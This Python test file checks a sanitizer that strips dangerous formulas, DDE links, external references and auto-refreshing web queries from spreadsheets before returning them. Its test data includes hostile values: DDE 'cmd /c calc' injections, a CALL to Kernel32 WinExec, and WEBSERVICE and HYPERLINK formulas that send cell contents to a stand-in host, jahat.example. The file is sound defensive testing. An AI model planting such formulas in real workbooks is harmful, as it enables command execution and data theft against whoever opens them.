"""What a sender puts into a workbook to act on whoever opens it does not come back under our name."""

import zipfile
from pathlib import Path

import openpyxl
import pytest

from satupintu.gateways.corrections import RowMark, SheetMarks, write_corrections
from satupintu.gateways.corrections.disarming import disarmed, reaches_outside

NIK = "3507116302588475"
MARK = {4: RowMark("undetermined", "Perbaiki.", ("C",))}


def _returned(source: Path, tmp_path: Path) -> zipfile.ZipFile:
    marks = {(source.name, "RT"): SheetMarks(1, 4, MARK)}
    [out] = write_corrections([source], marks, tmp_path / "corrections")
    return zipfile.ZipFile(out)


def _workbook(path: Path, formulas: list[str]) -> Path:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "RT"
    sheet.append(["No", "Nama", "NIK", "Catatan"])
    for number, formula in enumerate(formulas, 1):
        sheet.append([number, "SITI", NIK, formula])
    sheet["B2"].hyperlink = "http://jahat.example/x"
    other = book.create_sheet("Petunjuk")
    other["A1"] = '=WEBSERVICE("http://jahat.example/"&RT!C2)'
    other["A2"] = "=SUM(B1:B3)"
    book.save(path)
    return path


@pytest.mark.parametrize(
    "formula",
    [
        'HYPERLINK("http://x/?"&C2,"klik")',
        '_xlfn.WEBSERVICE("http://x")',
        "cmd|'/c calc'!A0",
        "[1]Lembar!A1",
        "'C:\\data\\[lain.xlsx]Lembar'!A1",
        "'\\\\server\\bagi\\[lain.xls]S'!A1",
        'RTD("prog",,"x")',
        'CALL("Kernel32","WinExec","JFJ","calc",0)',
    ],
)
def test_formulas_that_reach_outside(formula):
    assert reaches_outside(formula)


@pytest.mark.parametrize(
    "formula",
    [
        "SUM(A1:A9)",
        'COUNTA(C2:C9)&" | [1] http://x"',
        "Tabel1[Jumlah]",
        "VLOOKUP(C2,Acuan!A:B,2,0)",
        "A1*[@Harga]",
    ],
)
def test_formulas_that_stay_in_the_workbook(formula):
    assert not reaches_outside(formula)


def test_what_would_act_is_gone_and_the_rest_is_as_it_was_sent(tmp_path):
    bad = ['=HYPERLINK("http://jahat.example/?"&C2,"klik")', "=cmd|'/c calc'!A0", "=COUNTA(C2:C3)", "=1+1"]
    packed = _returned(_workbook(tmp_path / "usulan.xlsx", bad), tmp_path)
    everything = b"".join(packed.read(name) for name in packed.namelist())
    for trace in (b"HYPERLINK", b"calc'", b"WEBSERVICE", b"jahat.example"):
        assert trace not in everything
    sheet = openpyxl.load_workbook(packed.filename)["RT"]
    assert [sheet[f"D{row}"].value for row in range(2, 6)] == [None, None, "=COUNTA(C2:C3)", "=1+1"]
    assert [sheet[f"C{row}"].value for row in range(2, 6)] == [NIK] * 4
    assert sheet["E4"].value == "PERBAIKI"
    assert openpyxl.load_workbook(packed.filename)["Petunjuk"]["A2"].value == "=SUM(B1:B3)"


def test_the_value_last_shown_stays_and_cells_that_share_a_formula_go_together():
    sheet = (
        b'<x:worksheet><x:c r="A1" t="str"><x:f t="shared" ref="A1:A2" si="4">HYPERLINK("http://x")</x:f>'
        b'<x:v>klik</x:v></x:c><x:c r="A2"><x:f t="shared" si="4"/><x:v>klik</x:v></x:c>'
        b'<x:c r="A3"><x:f t="shared" si="5"/><x:v>9</x:v></x:c></x:worksheet>'
    )
    assert disarmed(sheet) == (
        b'<x:worksheet><x:c r="A1" t="str"><x:v>klik</x:v></x:c><x:c r="A2"><x:v>klik</x:v></x:c>'
        b'<x:c r="A3"><x:f t="shared" si="5"/><x:v>9</x:v></x:c></x:worksheet>'
    )


@pytest.mark.parametrize(
    "hidden",
    [
        b"<worksheet><f>&#72;YPERLINK(A1)</f></worksheet>",
        b"<worksheet><f><![CDATA[HYPERLINK(A1)]]></f></worksheet>",
        b"<worksheet><f>HYPER<!-- -->LINK(A1)</f></worksheet>",
        "<worksheet><f>HYPERLINK(A1)</f></worksheet>".encode("utf-16"),
        "<worksheet><f>HYPERLINK(A1)</f></worksheet>".encode("utf-16-le"),
        b"<worksheet><f\n>HYPERLINK(A1)</f\n></worksheet>",
    ],
)
def test_no_spelling_of_the_xml_hides_a_formula(hidden):
    assert disarmed(hidden) == b"<worksheet></worksheet>"


def test_names_rules_links_and_connections_lead_nowhere():
    name = b"<workbook><definedName name='a'>%s</definedName><definedName name='b'>RT!A1</definedName></workbook>"
    assert disarmed(name % b"cmd|'/c x'!A0") == name % b"#REF!"
    rule = b"<worksheet><dataValidation><formula1>[1]A!A1</formula1></dataValidation><xm:f>[2]B!B2</xm:f></worksheet>"
    assert disarmed(rule) == (
        b"<worksheet><dataValidation><formula1>FALSE</formula1></dataValidation><xm:f>FALSE</xm:f></worksheet>"
    )
    dde = b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    assert b"calc" not in disarmed(dde)
    link = b'<Relationships><Relationship Id="r1" Target="%s" TargetMode="External"/></Relationships>'
    assert disarmed(link % b"file:///jahat/a.xlsx") == link % b"tautan-dihapus"
    query = b'<connections><connection refreshOnLoad="1"><webPr url="http://x"/></connection></connections>'
    assert b"http" not in disarmed(query)
    assert b'refreshOnLoad="0"' in disarmed(query)


def test_a_part_that_does_nothing_is_the_very_same_bytes():
    for part in (
        b"<worksheet><f>SUM(A1)</f><!-- x --></worksheet>",
        b'<Relationships><Relationship Target="a.xml"/></Relationships>',
    ):
        assert disarmed(part) is part


def test_text_that_looks_like_a_formula_comes_back_as_text(tmp_path):
    source = tmp_path / "usulan.csv"
    source.write_text(f"Nama;NIK\n=HYPERLINK(1);{NIK}\n@SUM(1);{NIK}\n", encoding="utf-8")
    marks = {("usulan.csv", ""): SheetMarks(1, 2, {2: MARK[4]})}
    [out] = write_corrections([source], marks, tmp_path / "corrections")
    sheet = openpyxl.load_workbook(out).worksheets[0]
    assert [(sheet[f"A{row}"].value, sheet[f"A{row}"].data_type) for row in (2, 3)] == [
        ("=HYPERLINK(1)", "s"),
        ("@SUM(1)", "s"),
    ]
    assert sheet["A2"].number_format == "@", "typing into the cell does not wake it up either"
    assert sheet["B2"].value == NIK
